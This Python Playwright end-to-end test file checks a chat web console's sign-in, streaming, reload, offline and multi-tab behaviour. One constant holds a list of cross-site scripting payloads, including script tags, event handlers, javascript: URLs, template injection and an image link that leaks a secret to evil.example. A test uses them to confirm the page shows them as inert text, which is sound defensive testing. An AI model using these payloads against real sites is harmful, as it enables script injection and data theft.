"""The console in a real browser: what is sent arrives once, and what is answered is seen whole, whatever breaks meanwhile."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.async_api import Browser, Route, expect

from testbed.replicas import Replica, eventually
from testbed.stage import WORKER_OFF, Stage
from tests.e2e.desk import Desk, another_tab, new_code, seated

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

ECHO = "I am the demo model, and I only echo."
XSS = """<script>window.pwned = 1</script><img src=x onerror="window.pwned = 1">
<svg onload="window.pwned=1"><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
[a](javascript:window.pwned=1) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>1</script>) [d](vbscript:x) [e]( java\tscript:alert(1))
[ok](https://example.org/?q="onmouseover="window.pwned=1) ![leak](https://evil.example/?secret=1) <https://example.org/"onclick=1>
**<b onmouseover=window.pwned=1>x</b>** `<script>1</script>` https://example.org/<script>alert(1)</script>
```html"><script>window.pwned=1</script>
</code></pre><script>window.pwned = 1</script>
```
1. <style>*{display:none}</style> {{constructor.constructor('window.pwned=1')()}} &lt;script&gt; \u202e\u0000"""

SHOW = """(state) => {
    Object.defineProperty(document, 'visibilityState', { value: state, configurable: true });
    document.dispatchEvent(new Event('visibilitychange'));
}"""


async def test_a_link_signs_in_and_an_answer_streams(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        page = desk.page
        assert "signin" not in page.url and await page.evaluate("history.length") == 2, "the code is not in the history"
        await expect(page.get_by_text("No chats yet")).to_be_visible()
        await expect(page.get_by_label("Agent", exact=True)).to_have_value("demo")

        await desk.send("slow 3 hello there")
        await expect(desk.turns().locator(".asked-text")).to_have_text("slow 3 hello there")
        await expect(desk.turns("running").locator(".text")).to_contain_text("You said: hello there")
        assert ECHO not in (await desk.answers())[0], "it is seen while it is written"
        await desk.ended(1)
        assert ECHO in (await desk.answers())[0]
        await expect(page.get_by_role("navigation", name="Your chats").get_by_role("link")).to_have_text(
            ["slow 3 hello there"]
        )
        await expect(page.locator("#announcer")).to_contain_text(ECHO)
        await expect(page).to_have_title("slow 3 hello there · Stratus")

        await page.get_by_role("link", name="New chat").click()
        await expect(desk.turns()).to_have_count(0)
        await page.go_back()
        await desk.ended(1)
        assert desk.complaints == [] and desk.foreign == []


async def test_a_used_link_and_no_link_say_what_to_do(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        context = await browser.new_context()
        stranger = await another_tab(context, replica)
        await stranger.page.goto(f"{replica.url}/ui/")
        await expect(stranger.page.get_by_role("heading", name="Signed out")).to_be_visible()
        code = await new_code(stage)
        await desk.page.goto(f"{replica.url}/ui/#signin={code}")
        await expect(desk.page.get_by_label("Message", exact=True)).to_be_visible()
        await stranger.page.goto(f"{replica.url}/ui/#signin={'x' * len(code)}")
        await expect(stranger.page.get_by_text("was used or has expired")).to_be_visible()
        assert "signin" not in stranger.page.url
        assert stranger.serious() == []
        await context.close()
        await desk.page.get_by_role("button", name="Sign out").click()
        await expect(desk.page.get_by_role("heading", name="Signed out")).to_be_visible()


async def test_a_reload_in_mid_turn_loses_and_doubles_nothing(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        await desk.send("first")
        await desk.ended(1)
        await desk.send("think slow 6 second")
        await expect(desk.turns("running").locator(".text")).to_contain_text("You said:")
        other = await another_tab(desk.page.context, replica)
        await other.page.goto(desk.page.url)
        await desk.page.reload()
        await expect(desk.turns("running")).to_have_count(1)
        await desk.ended(2)
        await other.ended(2)
        await desk.page.reload()
        await desk.ended(2)
        for tab in (desk, other):
            assert await tab.asked() == ["first", "think slow 6 second"]
            assert [text.count("You said: ") for text in await tab.answers()] == [1, 1]
            assert [text.count(ECHO) for text in await tab.answers()] == [1, 1]
            assert tab.complaints == []


async def test_stop_ends_the_turn_and_what_waits(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        await desk.send("slow 60 long")
        await expect(desk.turns("running").locator(".text")).to_contain_text("You")
        for text in ("waits", "is removed"):
            await desk.send(text)
        await desk.ended(2, "queued")
        await desk.turns("queued").last.get_by_role("button", name="Remove").click()
        await desk.ended(1, "canceled")
        await desk.page.keyboard.press("Escape")
        await desk.ended(3, "canceled")
        await expect(desk.turns().first.locator(".words")).to_have_text("Stopped.")
        await expect(desk.page.get_by_role("button", name="Stop")).to_be_hidden()

        await desk.send("slow 60 again")
        await expect(desk.turns("running").locator(".text")).to_contain_text("You")
        await desk.page.get_by_role("button", name="Stop").click()
        await desk.ended(4, "canceled")
        assert desk.complaints == []
        await desk.page.reload()
        await desk.ended(2, "canceled")
        assert desk.complaints == []


async def test_tools_thoughts_markdown_and_failures_are_shown_as_they_are(
    browser: Browser, stage: Stage, replica: Replica
) -> None:
    async with seated(browser, stage, replica) as desk:
        page = desk.page
        await desk.send("think tool")
        await desk.ended(1)
        await desk.send("markdown")
        await desk.ended(2)
        await desk.send("fail")
        for _ in ("live", "reloaded"):
            await desk.ended(2)
            await desk.ended(1, "failed")
            await expect(desk.turns("failed").locator(".words")).to_have_text(
                "Failed. The demo model was told to fail, and it did."
            )
            tool = page.locator(".tool")
            await expect(tool.locator(".fold-state")).to_have_text("done")
            assert not await tool.locator(".result").is_visible()
            await tool.locator("summary").click()
            await expect(tool.locator(".result")).to_contain_text("20")
            await expect(page.locator(".thinking .fold-name").first).to_have_text("Thought")
            sample = desk.turns().nth(1).locator(".text")
            await expect(sample.locator("h3")).to_have_text("A sample")
            await expect(sample.locator("ul > li")).to_have_text(["first", "second nested"], use_inner_text=True)
            await expect(sample.locator("ol > li")).to_have_text("nested")
            await expect(sample.locator("pre")).to_contain_text('    return f"Hello, {name}!"')
            link = sample.get_by_role("link", name="link")
            assert await link.get_attribute("href") == "https://example.org/"
            assert "noopener" in (await link.get_attribute("rel") or "")
            await page.reload()
        assert desk.complaints == []


async def test_hostile_text_stays_text(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        await desk.send(XSS)
        for _ in ("live", "reloaded"):
            await desk.ended(1)
            log = desk.page.locator("#log")
            await expect(log).to_contain_text("<script>window.pwned = 1</script>")
            assert await log.locator("script, img, iframe, style, object, embed, form, svg, b").count() == 0
            attributes = "nodes => nodes.flatMap((node) => node.getAttributeNames()).filter((name) => name.startsWith('on') || name === 'style')"
            assert await log.locator("*").evaluate_all(attributes) == []
            addresses = await log.locator("a").evaluate_all("nodes => nodes.map((node) => node.href)")
            assert addresses and all(one.startswith("https://") for one in addresses), addresses
            assert await desk.page.evaluate("window.pwned") is None
            await desk.page.reload()
        assert desk.complaints == [] and desk.foreign == []


@pytest.mark.parametrize("seconds", [10, 2], ids=["runs on", "ends in the gap"])
async def test_a_stream_goes_on_when_its_replica_comes_back(browser: Browser, stage: Stage, seconds: int) -> None:
    async with (
        stage.replicas(2, roles=[WORKER_OFF, {}]) as replicas,
        seated(browser, stage, replicas[0]) as desk,
    ):
        await desk.send(f"slow {seconds} over the gap")
        await expect(desk.turns("running").locator(".text")).to_contain_text("You")
        await replicas[0].kill()
        await expect(desk.link()).to_have_text("Reconnecting")
        await desk.send("sent into the gap")
        await expect(desk.turns("sending")).to_have_count(1)
        if seconds == 2:
            await eventually(lambda: desk.ran(stage, 1), what="the turn has ended unseen")
        await replicas[0].restart()
        await expect(desk.link()).to_have_text("")
        await desk.ended(2)
        assert await desk.asked() == [f"slow {seconds} over the gap", "sent into the gap"]
        assert [text.count(ECHO) for text in await desk.answers()] == [1, 1]
        assert await desk.ran(stage, 2)
        assert desk.serious() == []


async def test_a_lost_answer_to_a_send_doubles_nothing(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        keys: list[str] = []

        async def lose_the_first_answer(route: Route) -> None:
            if route.request.method != "POST":
                await route.fallback()
                return
            keys.append(route.request.headers["idempotency-key"])
            if len(keys) > 1:
                await route.continue_()
                return
            await route.fetch()
            await route.abort("connectionreset")

        await desk.page.route("**/messages", lose_the_first_answer)
        await desk.send("once")
        await desk.ended(1)
        assert len(keys) > 1 and len(set(keys)) == 1
        assert await desk.asked() == ["once"]
        assert await desk.ran(stage, 1)
        assert desk.serious() == []


async def test_what_is_sent_offline_survives_a_reload(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        await desk.send("first")
        await desk.ended(1)
        await desk.page.route("**/sessions/*/messages", _refuse_posts)
        await desk.page.context.set_offline(True)
        await expect(desk.link()).to_contain_text("Offline")
        await desk.send("kept")
        await expect(desk.turns("sending")).to_have_count(1)
        await desk.page.context.set_offline(False)
        await desk.page.reload()
        await expect(desk.turns("sending").locator(".asked-text")).to_have_text("kept")
        await desk.page.unroute("**/sessions/*/messages")
        await desk.ended(2)
        assert await desk.asked() == ["first", "kept"]
        assert desk.serious() == []


async def _refuse_posts(route: Route) -> None:
    if route.request.method == "POST":
        await route.abort("connectionrefused")
    else:
        await route.fallback()


async def test_an_expired_cursor_rebuilds_the_page_once(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        expired = {"status": 409, "code": "cursor_expired", "detail": "the log no longer reaches back"}
        asked: list[str] = []

        async def expire_the_first(route: Route) -> None:
            asked.append(route.request.headers.get("last-event-id", ""))
            if len(asked) == 1:
                await route.fulfill(status=409, json=expired, content_type="application/problem+json")
            else:
                await route.fallback()

        await desk.send("hello")
        await desk.ended(1)
        await desk.page.route("**/messages?follow=session", expire_the_first)
        await desk.page.reload()
        await desk.ended(1)
        await expect(desk.link()).to_have_attribute("data-state", "live")
        await desk.send("and on")
        await desk.ended(2)
        assert len(asked) == 2 and await desk.asked() == ["hello", "and on"]

        await desk.page.unroute("**/messages?follow=session")
        await desk.page.route("**/messages?follow=session", lambda route: route.fulfill(status=409, json=expired))
        await desk.page.reload()
        await expect(desk.page.locator("#link")).to_have_attribute("data-state", "idle")
        assert desk.serious() == []


async def test_a_message_that_is_refused_can_be_edited(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        await desk.send("x" * 1_100_000)
        await desk.ended(1, "refused")
        await expect(desk.turns("refused").locator(".words")).to_contain_text("Not sent.")
        await desk.turns("refused").get_by_role("button", name="Edit").click()
        await expect(desk.turns()).to_have_count(0)
        await desk.send("short")
        await desk.ended(1)
        assert await desk.ran(stage, 1)


async def test_a_tab_that_nobody_sees_gives_its_connection_back(
    browser: Browser, stage: Stage, replica: Replica
) -> None:
    """A browser has about six connections for all tabs of an origin over HTTP/1.1: seven open chats must not stand still."""
    async with seated(browser, stage, replica) as desk:
        await desk.send("first")
        await desk.ended(1)
        other = await another_tab(desk.page.context, replica)
        await other.page.clock.install()
        await other.page.goto(desk.page.url)
        await other.ended(1)
        await expect(other.link()).to_have_attribute("data-state", "live")
        await other.page.evaluate(SHOW, "hidden")
        await other.page.clock.fast_forward(61_000)
        await expect(other.link()).to_have_attribute("data-state", "idle")
        await desk.send("unseen")
        await desk.ended(2)
        assert await other.asked() == ["first"]
        await other.page.evaluate(SHOW, "visible")
        await other.ended(2)
        assert await other.asked() == ["first", "unseen"]
        assert other.serious() == []


async def test_keys_write_lines_send_and_leave_drafts_alone(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        box = desk.page.get_by_label("Message", exact=True)
        await expect(box).to_be_focused()
        await box.press_sequentially("one")
        await desk.page.keyboard.press("Shift+Enter")
        await box.press_sequentially("two")
        await desk.page.reload()
        await expect(box).to_have_value("one\ntwo")
        await box.press("Enter")
        await desk.ended(1)
        assert await desk.asked() == ["one\ntwo"]
        await expect(box).to_have_value("")
        await box.press("Enter")
        await desk.send("long 20000")
        await desk.ended(2)
        scroll = desk.page.locator("#scroll")
        await desk.page.wait_for_function(
            "(node) => node.scrollTop + node.clientHeight >= node.scrollHeight - 2", arg=await scroll.element_handle()
        )
        await scroll.evaluate("(node) => { node.scrollTop = 0; }")
        await desk.page.get_by_role("button", name="Latest").wait_for()
        await desk.send("slow 1 and here")
        await desk.ended(3)
        await expect(desk.page.get_by_role("button", name="Latest")).to_be_hidden()
        assert desk.complaints == []


async def test_earlier_messages_come_when_asked(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        for n in range(30):
            await desk.send(f"message {n}")
        await desk.ended(30)
        await desk.page.reload()
        await desk.ended(25)
        await desk.page.get_by_role("button", name="Show earlier messages").click()
        await desk.ended(30)
        assert await desk.asked() == [f"message {n}" for n in range(30)]
        await expect(desk.page.get_by_role("button", name="Show earlier messages")).to_be_hidden()
        await desk.page.goto(f"{desk.url}/ui/#/s/nowhere")
        await expect(desk.page.get_by_role("heading", name="This chat is not here")).to_be_visible()
        assert desk.serious() == []


async def test_on_a_phone_nothing_overflows(browser: Browser, stage: Stage, replica: Replica) -> None:
    phone: dict[str, Any] = {"viewport": {"width": 360, "height": 640}, "has_touch": True, "is_mobile": True}
    async with seated(browser, stage, replica, **phone) as desk:
        await desk.send(f"{'long' * 100} https://example.org/{'x' * 300}")
        await desk.ended(1)
        await desk.send("markdown")
        await desk.ended(2)
        assert await _fits(desk)
        drawer = desk.page.get_by_role("complementary", name="Chats")
        await expect(drawer).to_be_hidden()
        await desk.page.get_by_role("button", name="Show the list of chats").click()
        await expect(drawer).to_be_visible()
        await desk.page.keyboard.press("Escape")
        await expect(drawer).to_be_hidden()
        await desk.page.get_by_role("button", name="Show the list of chats").click()
        await desk.page.get_by_role("link", name="New chat").click()
        await expect(drawer).to_be_hidden()
        await expect(desk.turns()).to_have_count(0)
        assert await _fits(desk)
        assert desk.complaints == []


async def _fits(desk: Desk) -> bool:
    wide = "[document.documentElement, document.getElementById('scroll')].every((node) => node.scrollWidth <= node.clientWidth)"
    return bool(await desk.page.evaluate(wide))


async def test_two_tabs_of_one_chat_each_hear_all(browser: Browser, stage: Stage, replica: Replica) -> None:
    async with seated(browser, stage, replica) as desk:
        await desk.send("from the first")
        await desk.ended(1)
        other = await another_tab(desk.page.context, replica)
        await other.page.goto(desk.page.url)
        await other.ended(1)
        for tab, text in ((other, "same"), (desk, "same"), (other, "end")):
            await tab.send(text)
        for tab in (desk, other):
            await tab.ended(4)
            assert sorted(await tab.asked()) == ["end", "from the first", "same", "same"]
        assert await desk.asked() == await other.asked()
        assert desk.complaints + other.complaints == []
